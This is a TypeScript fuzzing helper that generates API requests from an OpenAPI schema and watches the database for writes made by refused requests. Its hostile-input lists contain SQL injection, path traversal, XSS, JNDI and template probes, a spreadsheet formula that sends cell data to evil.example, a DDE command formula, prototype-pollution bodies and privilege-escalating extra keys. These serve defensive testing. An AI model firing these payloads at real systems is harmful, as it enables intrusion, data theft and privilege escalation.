/**
 * API fuzzing from the OpenAPI document: the routes as the server describes them, fast-check arbitraries
 * derived from their JSON schemas (valid values, boundaries, wrong types, hostile strings, garbage), and a
 * database change watch that tells whether a refused request wrote anything.
 */
import fc from 'fast-check';
import { sql } from 'kysely';
import type { Database } from '../../src/core/db.js';
import { ERROR_CODES } from '../../src/core/errors.js';

/** The JSON-Schema keywords the generator reads (what @fastify/swagger puts in the document). */
export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number | boolean;
  exclusiveMaximum?: number | boolean;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  nullable?: boolean;
  default?: unknown;
  $ref?: string;
}

export interface Param { name: string; required: boolean; schema: JsonSchema }

/** One operation of the OpenAPI document. */
export interface ApiRoute {
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  /** OpenAPI form: `/api/v1/plans/{id}`. */
  path: string;
  pathParams: Param[];
  query: Param[];
  body: JsonSchema | null;
  /** The body is a file (the route takes `?filename=`), not JSON. */
  upload: boolean;
}

type OpenApiDoc = { paths: Record<string, Record<string, { parameters?: Array<Param & { in: string }>; requestBody?: { content?: Record<string, { schema?: JsonSchema }> } }>>; components?: { schemas?: Record<string, JsonSchema> } };

/** Every operation of the document, with `$ref`s resolved. */
export function apiRoutes(doc: unknown): ApiRoute[] {
  const d = doc as OpenApiDoc;
  const resolve = (s: JsonSchema | undefined): JsonSchema | undefined => {
    if (!s) return s;
    if (s.$ref) return resolve(d.components?.schemas?.[s.$ref.split('/').pop()!]);
    const out: JsonSchema = { ...s };
    if (s.properties) out.properties = Object.fromEntries(Object.entries(s.properties).map(([k, v]) => [k, resolve(v)!]));
    if (s.items) out.items = resolve(s.items);
    for (const k of ['anyOf', 'oneOf', 'allOf'] as const) if (s[k]) out[k] = s[k].map((x) => resolve(x)!);
    return out;
  };
  const routes: ApiRoute[] = [];
  for (const [path, ops] of Object.entries(d.paths)) {
    for (const [method, op] of Object.entries(ops)) {
      const params = (op.parameters ?? []).map((p) => ({ ...p, schema: resolve(p.schema) ?? {} }));
      const query = params.filter((p) => p.in === 'query').map(({ name, required, schema }) => ({ name, schema, required: required && schema.default === undefined }));
      routes.push({
        method: method.toUpperCase() as ApiRoute['method'], path,
        pathParams: params.filter((p) => p.in === 'path').map(({ name, schema }) => ({ name, schema, required: true })),
        query, body: resolve(op.requestBody?.content?.['application/json']?.schema) ?? null,
        upload: query.some((q) => q.name === 'filename'),
      });
    }
  }
  return routes;
}

/** Known values by field name (or by the path segment before an id): real objects, so that deeper code is reached. */
export type Hints = Record<string, readonly string[]>;

const LONG = 'A'.repeat(100_000);
/** Strings that break naive code: NUL, traversal, SQL, number-ish, formulas, markup, odd unicode, huge. */
export const HOSTILE_STRINGS: readonly string[] = [
  '', ' ', '\u0000', 'a\u0000b', '%00', '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc/passwd', 'file:///etc/passwd', "' OR '1'='1", "'; DROP TABLE users; --", '" OR ""="', "1; SELECT pg_sleep(5); --",
  "x') UNION SELECT NULL,NULL--", '\\', '%', '%ZZ', '%E0%A4%A', 'NaN', 'Infinity', '-Infinity', '1e308', '1e309', '-1', '-0',
  '0x1F', '١٢٣', '１２３', ' 42 ', '9007199254740993', 'null', 'undefined', 'true', '[]', '{}', '__proto__', 'constructor',
  'prototype', 'toString', '<script>alert(1)</script>', '{{7*7}}', '${jndi:ldap://x/a}', '=HYPERLINK("http://evil.example/?"&A1)',
  "=cmd|' /C calc'!A0", '+1', '@SUM(1)', '\t=1', '\r\n', '\u202eevil', '\u200b', '\ufeff', 'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇', '😀👍🏽🇨🇴',
  'العربية', '\ud800', '\udfff', 'x'.repeat(256), 'x'.repeat(5000), '€'.repeat(33_000), LONG,
];

/** Text that is not (quite) JSON, or JSON that hurts: bodies sent raw. */
export const GARBAGE_JSON: readonly string[] = [
  '', '{', '[', 'null', 'NaN', '1e999', '-', '{"a":1,}', "{'a':1}", '{"a":}', '\ufeff{}', '{"a":1}{"b":2}', '"str"', '[1,2]', 'true',
  '{"__proto__":{"polluted":true}}', '{"constructor":{"prototype":{"polluted":true}}}', '{"a":"\\u0000"}', '{"a":"\\ud800"}',
  '['.repeat(50_000) + ']'.repeat(50_000), '{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000), `"${LONG}"`, '\u0000',
];

const WRONG_VALUES: readonly unknown[] = [null, true, false, 0, -1, 1.5, 1e308, -1e308, '', '12', 'NaN', '1e308', [], [null], {}, { $gt: '' }, [[[[[]]]]]];
const EXTRA_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '', 'a\u0000b', 'id', 'role', 'orgId', 'status', 'x'.repeat(300)];

const hostileString = (): fc.Arbitrary<string> => fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
);

const matchers = new Map<string, fc.Arbitrary<string>>();
/** Strings matching a pattern (fast-check's generator, built once per pattern: building it is the costly part). */
const matching = (pattern: string): fc.Arbitrary<string> => {
  if (!matchers.has(pattern)) matchers.set(pattern, fc.stringMatching(new RegExp(pattern)));
  return matchers.get(pattern)!;
};

const typeOf = (s: JsonSchema): string | undefined => (Array.isArray(s.type) ? s.type.find((t) => t !== 'null') : s.type);
const lowerBound = (s: JsonSchema) => (typeof s.exclusiveMinimum === 'number' ? s.exclusiveMinimum : s.minimum);
const upperBound = (s: JsonSchema) => (typeof s.exclusiveMaximum === 'number' ? s.exclusiveMaximum : s.maximum);

interface Opts { hints: Hints; name: string; depth: number }

/** A value the schema accepts (or a known real value for that field name). */
function conforming(s: JsonSchema, o: Opts): fc.Arbitrary<unknown> {
  const known = o.hints[o.name];
  const own = conformingByKeyword(s, o);
  const base = known?.length ? fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...known) }, { weight: 2, arbitrary: own }) : own;
  return s.nullable ? fc.oneof({ weight: 1, arbitrary: fc.constant(null) }, { weight: 4, arbitrary: base }) : base;
}

function conformingByKeyword(s: JsonSchema, o: Opts): fc.Arbitrary<unknown> {
  if (s.const !== undefined) return fc.constant(s.const);
  if (s.enum?.length) return fc.constantFrom(...s.enum);
  const alts = s.anyOf ?? s.oneOf;
  if (alts?.length) return fc.oneof(...alts.map((a) => conformingByKeyword(a, o)));
  if (s.allOf?.length) return conformingByKeyword(Object.assign({}, ...s.allOf) as JsonSchema, o);
  const lo = lowerBound(s);
  const hi = upperBound(s);
  switch (typeOf(s)) {
    case 'string': {
      const min = s.minLength ?? 0;
      const max = Math.min(s.maxLength ?? 40, min + 40);
      if (s.pattern) return matching(s.pattern).filter((v) => v.length >= min && v.length <= (s.maxLength ?? Infinity));
      return fc.oneof(fc.string({ minLength: min, maxLength: max }), fc.string({ unit: 'grapheme', minLength: min, maxLength: max }));
    }
    case 'integer': {
      const min = lo === undefined ? -(2 ** 31) : Math.ceil(lo + (s.exclusiveMinimum === lo ? 1 : 0));
      const max = hi === undefined ? 2 ** 31 : Math.floor(hi - (s.exclusiveMaximum === hi ? 1 : 0));
      return fc.oneof(fc.integer({ min, max }), fc.integer({ min: Math.max(min, -10), max: Math.max(Math.min(max, 10), min) }));
    }
    case 'number':
      return fc.double({
        min: lo ?? -1e9, max: hi ?? 1e9, noNaN: true, noDefaultInfinity: true,
        minExcluded: s.exclusiveMinimum !== undefined && s.exclusiveMinimum !== false, maxExcluded: s.exclusiveMaximum !== undefined && s.exclusiveMaximum !== false,
      });
    case 'boolean': return fc.boolean();
    case 'null': return fc.constant(null);
    case 'array': {
      const min = s.minItems ?? 0;
      return fc.array(conforming(s.items ?? {}, { ...o, depth: o.depth + 1 }), { minLength: min, maxLength: Math.min(s.maxItems ?? 6, min + 4) });
    }
    case 'object': {
      const props = s.properties ?? {};
      const model = Object.fromEntries(Object.entries(props).map(([k, v]) => [k, conforming(v, { ...o, name: k, depth: o.depth + 1 })]));
      return fc.record(model, { requiredKeys: (s.required ?? []).filter((k) => k in props) });
    }
    default: return fc.jsonValue({ maxDepth: 2 });
  }
}

/** Values at and just past the schema's limits. */
function boundary(s: JsonSchema): fc.Arbitrary<unknown> {
  const t = typeOf(s);
  if (t === 'string' || (!t && (s.maxLength !== undefined || s.pattern))) {
    const lengths = [0, s.minLength, s.maxLength, s.maxLength === undefined ? undefined : s.maxLength + 1, s.minLength ? s.minLength - 1 : undefined]
      .filter((n): n is number => n !== undefined && n >= 0 && n <= 100_000);
    const sized = fc.tuple(fc.constantFrom(...lengths), fc.constantFrom('x', 'é', '😀', '\u0000', '9')).map(([n, c]) => c.repeat(c.length > 1 ? Math.ceil(n / 2) : n));
    if (!s.pattern) return sized;
    // Near misses of the pattern: a matching value with a character added, changed or dropped, or padded.
    const near = fc.tuple(matching(s.pattern), fc.nat(), fc.constantFrom('x', '0', ' ', '\n', '١', '-', '\u0000'), fc.constantFrom('prefix', 'suffix', 'swap', 'drop'))
      .map(([v, i, c, how]) => {
        const at = v.length ? i % v.length : 0;
        return how === 'prefix' ? c + v : how === 'suffix' ? v + c : how === 'swap' ? v.slice(0, at) + c + v.slice(at + 1) : v.slice(0, at) + v.slice(at + 1);
      });
    return fc.oneof(sized, near);
  }
  if (t === 'integer' || t === 'number') {
    const lo = lowerBound(s);
    const hi = upperBound(s);
    const around = [lo, hi].filter((n): n is number => n !== undefined).flatMap((n) => [n, n - 1, n + 1, n - 0.5, n + 0.5, n * 10]);
    return fc.constantFrom(...around, 0, -0, -1, 1, 0.1, 2 ** 31, 2 ** 53 + 2, 9e15, 1e20, 1e308, -1e308, Number.MAX_VALUE, Number.MIN_VALUE, 5e-324);
  }
  if (t === 'array') {
    const short = typeOf(s.items ?? {}) === 'object' ? {} : typeOf(s.items ?? {}) === 'string' ? 'a' : 0;
    const counts = [0, s.minItems, s.maxItems, s.maxItems === undefined ? 10_000 : s.maxItems + 1].filter((n): n is number => n !== undefined && n >= 0);
    return fc.constantFrom(...counts).map((n) => Array.from({ length: n }, () => short));
  }
  return fc.constantFrom(...WRONG_VALUES);
}

/** A value for the schema: mostly valid, else at a boundary, of a wrong type, or a hostile string. */
export function valueFor(s: JsonSchema, o: Opts, mode: 'valid' | 'mixed'): fc.Arbitrary<unknown> {
  if (mode === 'valid') return conforming(s, o);
  const t = typeOf(s);
  const nested = o.depth < 3 && (t === 'object' || t === 'array')
    ? t === 'object' ? mixedObject(s, o) : fc.array(valueFor(s.items ?? {}, { ...o, depth: o.depth + 1 }, 'mixed'), { maxLength: Math.min(s.maxItems ?? 6, 6) })
    : conforming(s, o);
  return fc.oneof(
    { weight: 6, arbitrary: nested },
    { weight: 2, arbitrary: boundary(s) },
    { weight: 1, arbitrary: fc.constantFrom(...WRONG_VALUES) },
    { weight: 1, arbitrary: hostileString() },
  );
}

/** An object whose fields are each mixed, with required ones sometimes missing and extra (prototype) keys sometimes added. */
function mixedObject(s: JsonSchema, o: Opts): fc.Arbitrary<unknown> {
  const props = s.properties ?? {};
  const model = Object.fromEntries(Object.entries(props).map(([k, v]) => [k, valueFor(v, { ...o, name: k, depth: o.depth + 1 }, 'mixed')]));
  const required = (s.required ?? []).filter((k) => k in props);
  const body = fc.oneof({ weight: 4, arbitrary: fc.record(model, { requiredKeys: required }) }, { weight: 1, arbitrary: fc.record(model, { requiredKeys: [] }) });
  const extras = fc.array(fc.tuple(fc.oneof(fc.constantFrom(...EXTRA_KEYS), fc.string({ maxLength: 8 })), fc.oneof(fc.constantFrom(...WRONG_VALUES), fc.constant({ polluted: true, role: 'platform_admin' }))), { maxLength: 3 });
  // Object.fromEntries defines `__proto__` as an own key, so JSON.stringify sends it.
  return fc.tuple(body, extras).map(([b, x]) => (x.length ? Object.fromEntries([...Object.entries(b as object), ...x]) : b));
}

/** A request as generated: everything but who sends it. */
export interface Draft {
  method: ApiRoute['method'];
  url: string;
  contentType: string | null;
  payload: string | Buffer | null;
  /** How the credentials are presented: as they should be, or spoiled. */
  auth: 'proper' | 'no-csrf' | 'wrong-csrf' | 'bad-bearer' | 'bad-cookie';
}

/** Percent-encoding that survives lone surrogates (sent as their UTF-8 replacement, as a browser would). */
export const encode = (s: string): string => {
  try {
    return encodeURIComponent(s);
  } catch {
    return [...Buffer.from(s)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
  }
};

/** A value as it travels in a URL: percent-encoded, or now and then raw (printable ASCII only). */
const inUrl = (v: unknown): fc.Arbitrary<string> => {
  const text = typeof v === 'string' ? v : v === null || typeof v !== 'object' ? String(v) : JSON.stringify(v);
  return /^[\x21-\x7e]*$/.test(text) && text.length < 200 ? fc.constantFrom(encode(text), text) : fc.constant(encode(text));
};

function pathValue(route: ApiRoute, p: Param, hints: Hints): fc.Arbitrary<string> {
  const segments = route.path.split('/');
  const key = p.name === 'id' || p.name === 'ref' ? segments[segments.indexOf(`{${p.name}}`) - 1]! : p.name;
  const known = hints[key] ?? [];
  const any = hints.anyId ?? [];
  return fc.oneof(
    ...(known.length ? [{ weight: 6, arbitrary: fc.constantFrom(...known) as fc.Arbitrary<unknown> }] : []),
    ...(any.length ? [{ weight: 1, arbitrary: fc.constantFrom(...any) as fc.Arbitrary<unknown> }] : []),
    { weight: 3, arbitrary: valueFor(p.schema, { hints, name: p.name, depth: 0 }, 'mixed') },
  ).chain(inUrl);
}

function queryPairs(route: ApiRoute, hints: Hints, mode: 'valid' | 'mixed'): fc.Arbitrary<Array<[string, string]>> {
  const each = route.query.map((p) => {
    const value = valueFor(p.schema, { hints, name: p.name, depth: 0 }, mode).chain(inUrl);
    const present = p.required && mode === 'valid' ? fc.constant(true) : fc.boolean();
    return fc.tuple(present, value, mode === 'mixed' ? fc.boolean() : fc.constant(false)).map(([on, v, twice]): Array<[string, string]> =>
      (on ? (twice ? [[p.name, v], [p.name, v]] : [[p.name, v]]) : []));
  });
  const extra = mode === 'valid' ? fc.constant([]) : fc.array(fc.tuple(fc.constantFrom('__proto__', 'constructor[prototype][polluted]', '__proto__[polluted]', 'x', 'limit[]', ''), hostileString().chain(inUrl)), { maxLength: 2 });
  return fc.tuple(fc.tuple(...each), extra).map(([ps, x]) => [...ps.flat(), ...x]);
}

/** File-like bodies for upload routes: CSV/HXL, JSON, GeoJSON, binary, empty, and a few shaped to hurt. */
function fileBody(hints: Hints): fc.Arbitrary<{ contentType: string | null; payload: string | Buffer }> {
  const cell = fc.oneof(fc.constantFrom(...(hints.cells ?? ['x'])), fc.integer({ min: -5, max: 1e6 }).map(String), hostileString().map((s) => s.slice(0, 2000)));
  const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 8 }), { maxLength: 12 });
  const header = fc.constantFrom(...(hints.headers ?? ['#x']));
  const csv = fc.tuple(header, rows).map(([h, r]) => `${h}\n${r.map((x) => x.map((c) => (/[",\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(',')).join('\n')}\n`);
  const json = fc.tuple(header, rows).map(([h, r]) => JSON.stringify(r.map((x) => Object.fromEntries(h.split('\n').pop()!.split(',').map((k, i) => [k, x[i] ?? null])))));
  const geo = fc.array(fc.record({ pcode: cell, name: cell, admin1Pcode: cell }), { maxLength: 4 })
    .map((ps) => JSON.stringify({ type: 'FeatureCollection', features: ps.map((properties) => ({ type: 'Feature', properties, geometry: { type: 'Polygon', coordinates: [[[0, 0], [1, 0], [1, 1], [0, 0]]] } })) }));
  const binary = fc.tuple(fc.constantFrom('', 'PK\u0003\u0004', '\u001f\u008b\u0008'), fc.uint8Array({ maxLength: 2000 })).map(([magic, b]) => Buffer.concat([Buffer.from(magic, 'latin1'), Buffer.from(b)]));
  const hurting = fc.constantFrom('a,'.repeat(50_000), '\n'.repeat(100_000), `#x\n${LONG}\n`, `[${'{"#x+a":1},'.repeat(8000)}{}]`, '');
  // Real workbooks (base64 in hints.workbooks), whole or cut short: the XLSX readers reach past the zip check.
  const books = (hints.workbooks ?? []).map((b) => Buffer.from(b, 'base64'));
  const workbook = books.length ? [{ weight: 2, arbitrary: fc.tuple(fc.constantFrom(...books), fc.nat()).map(([b, n]) => (n % 4 === 0 ? b.subarray(0, n % b.length) : b)) }] : [];
  return fc.tuple(
    fc.oneof({ weight: 4, arbitrary: csv }, { weight: 2, arbitrary: json }, { weight: 1, arbitrary: geo }, { weight: 1, arbitrary: binary }, { weight: 1, arbitrary: hurting }, ...workbook),
    fc.constantFrom<string | null>('text/csv', 'application/json', 'application/octet-stream', null),
  ).map(([payload, contentType]) => ({ payload, contentType }));
}

function jsonBody(route: ApiRoute, hints: Hints, mode: 'valid' | 'mixed'): fc.Arbitrary<{ contentType: string | null; payload: string | null }> {
  const asJson = (v: unknown) => ({ contentType: 'application/json', payload: JSON.stringify(v) ?? 'null' });
  if (mode === 'valid') return route.body ? valueFor(route.body, { hints, name: '', depth: 0 }, 'valid').map(asJson) : fc.constant({ contentType: null, payload: null });
  return fc.oneof(
    { weight: 6, arbitrary: (route.body ? valueFor(route.body, { hints, name: '', depth: 0 }, 'mixed') : fc.jsonValue({ maxDepth: 2 })).map(asJson) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...GARBAGE_JSON), fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded', 'application/json; charset=utf-16', 'multipart/form-data')).map(([payload, contentType]) => ({ contentType, payload })) },
    { weight: 2, arbitrary: fc.constant({ contentType: null, payload: null }) },
  );
}

/** Requests for one route: path from known ids and hostile values, query and body from the schemas. */
export function draftsFor(route: ApiRoute, hints: Hints): fc.Arbitrary<Draft> {
  // One request in three entirely valid by the schemas (reaching the handlers), the others mixed.
  const parts = (mode: 'valid' | 'mixed') => fc.record({
    path: fc.tuple(...route.pathParams.map((p) => pathValue(route, p, hints))),
    query: queryPairs(route, hints, mode),
    body: route.method === 'GET' ? fc.constant({ contentType: null, payload: null }) : route.upload ? fileBody(hints) : jsonBody(route, hints, mode),
    auth: fc.constantFrom<Draft['auth']>('proper', 'proper', 'proper', 'proper', 'proper', 'proper', 'proper', 'no-csrf', 'wrong-csrf', 'bad-bearer', 'bad-cookie'),
  });
  return fc.oneof({ weight: 1, arbitrary: parts('valid') }, { weight: 2, arbitrary: parts('mixed') }).map(({ path, query, body, auth }) => {
    let i = 0;
    const p = route.path.replace(/\{[^}]+\}/g, () => path[i++]!);
    const url = query.length ? `${p}?${query.map(([k, v]) => `${encode(k)}=${v}`).join('&')}` : p;
    return { method: route.method, url, contentType: body.contentType, payload: body.payload, auth };
  });
}

/** A body as it appears in a failure message: its start and its length. */
export function preview(v: string | Buffer | null, max = 300): string {
  if (v === null) return '(none)';
  const s = typeof v === 'string' ? v : `<${v.length} bytes> ${v.toString('latin1')}`;
  return JSON.stringify(s.length > max ? `${s.slice(0, max)}…` : s) + (s.length > max ? ` (${s.length.toLocaleString('en-US')} characters)` : '');
}

/** What is wrong with an error answer's shape, or null when it is `{ code, message, details, requestId }` with a known code. */
export function errorShapeProblem(status: number, contentType: string | undefined, body: string): string | null {
  if (status < 400) return null;
  if (!contentType?.startsWith('application/json')) return `a ${status} answer is ${contentType ?? 'untyped'}, not JSON`;
  let e: Record<string, unknown>;
  try {
    e = JSON.parse(body) as Record<string, unknown>;
  } catch {
    return 'the error answer is not valid JSON';
  }
  const keys = Object.keys(e ?? {}).sort().join(',');
  if (keys !== 'code,details,message,requestId') return `the error answer has the keys ${keys}`;
  if (!(ERROR_CODES as readonly unknown[]).includes(e.code)) return `the error code ${JSON.stringify(e.code)} is not one of ERROR_CODES`;
  if (typeof e.message !== 'string' || typeof e.requestId !== 'string' || !Array.isArray(e.details)) return 'message, requestId or details has the wrong type';
  if (!e.details.every((d: unknown) => typeof d === 'object' && d !== null && typeof (d as { message?: unknown }).message === 'string')) return 'a detail has no message';
  return null;
}

/** Reads the database's change log: what was written since a mark. */
export interface ChangeWatch {
  mark(): Promise<number>;
  /** `table operation ×count` for every write after `mark`; empty when nothing was written. */
  since(mark: number): Promise<string[]>;
}

/**
 * The tables and their columns. On PostgreSQL from the catalogue of this schema only: Kysely's introspection
 * reads every schema, and fails when another test file drops its own schema at that moment.
 */
async function tablesOf(database: Database, schema: string | null): Promise<Array<{ name: string; columns: string[] }>> {
  if (schema === null) {
    return (await database.db.introspection.getTables()).filter((t) => !t.isView).map((t) => ({ name: t.name, columns: t.columns.map((c) => c.name) }));
  }
  const rows = (await sql<{ t: string; c: string }>`select c.relname as t, a.attname as c from pg_catalog.pg_class c
    join pg_catalog.pg_namespace n on n.oid = c.relnamespace join pg_catalog.pg_attribute a on a.attrelid = c.oid
    where n.nspname = ${schema} and c.relkind in ('r', 'p') and a.attnum > 0 and not a.attisdropped order by c.relname, a.attnum`.execute(database.db)).rows;
  const out = new Map<string, string[]>();
  for (const r of rows) out.set(r.t, [...(out.get(r.t) ?? []), r.c]);
  return [...out].map(([name, columns]) => ({ name, columns }));
}

/**
 * Installs row triggers on every table that log each insert, each update that changes a value, and each
 * delete into `fuzz_changes` (rolled back with the transaction that wrote). What a refusal may write on
 * purpose is left out: `exemptTables`, `exemptColumns` (a session's last use), and inserts into
 * `appendOnly` tables (the audit trail, whose rows must never change).
 */
export async function watchChanges(database: Database, opt: { exemptTables: string[]; exemptColumns: Record<string, string[]>; appendOnly: string[] }): Promise<ChangeWatch> {
  const { db, engine } = database;
  const run = (text: string) => sql.raw(text).execute(db);
  const q = (name: string) => `"${name.replaceAll('"', '""')}"`;
  const schema = engine === 'postgres' ? (database.schema ?? (await sql<{ s: string }>`select current_schema() as s`.execute(db)).rows[0]!.s) : null;
  const tables = (await tablesOf(database, schema)).filter((t) => !opt.exemptTables.includes(t.name) && t.name !== 'fuzz_changes');
  const log = schema ? `${q(schema)}.fuzz_changes` : 'fuzz_changes';
  if (engine === 'postgres') {
    await run(`create table ${log} (seq bigserial primary key, tbl text not null, op text not null)`);
    await run(`create function ${q(schema!)}.fuzz_note() returns trigger language plpgsql as $$ begin insert into ${log} (tbl, op) values (TG_TABLE_NAME, lower(TG_OP)); return null; end $$`);
  } else {
    await run('create table fuzz_changes (seq integer primary key autoincrement, tbl text not null, op text not null)');
  }
  for (const t of tables) {
    const cols = t.columns.filter((c) => !(opt.exemptColumns[t.name] ?? []).includes(c));
    const ops: Array<['insert' | 'update' | 'delete', string]> = [
      ...(opt.appendOnly.includes(t.name) ? [] : [['insert', ''] as ['insert', string]]),
      ...(cols.length ? [['update', engine === 'postgres' ? `(row(${cols.map((c) => `OLD.${q(c)}`).join(', ')}) is distinct from row(${cols.map((c) => `NEW.${q(c)}`).join(', ')}))` : cols.map((c) => `OLD.${q(c)} IS NOT NEW.${q(c)}`).join(' OR ')] as ['update', string]] : []),
      ['delete', ''],
    ];
    for (const [op, when] of ops) {
      if (engine === 'postgres') {
        await run(`create trigger fuzz_${op} after ${op} on ${q(schema!)}.${q(t.name)} for each row ${when ? `when ${when}` : ''} execute function ${q(schema!)}.fuzz_note()`);
      } else {
        await run(`create trigger ${q(`fuzz_${op}_${t.name}`)} after ${op} on ${q(t.name)} ${when ? `when ${when}` : ''} begin insert into fuzz_changes (tbl, op) values ('${t.name.replaceAll("'", "''")}', '${op}'); end`);
      }
    }
  }
  return {
    mark: async () => Number((await sql<{ n: number }>`select coalesce(max(seq), 0) as n from ${sql.raw(log)}`.execute(db)).rows[0]!.n),
    since: async (mark) => (await sql<{ tbl: string; op: string; n: number }>`select tbl, op, count(*) as n from ${sql.raw(log)} where seq > ${mark} group by tbl, op order by tbl, op`.execute(db))
      .rows.map((r) => `${r.tbl} ${r.op} ×${Number(r.n)}`),
  };
}
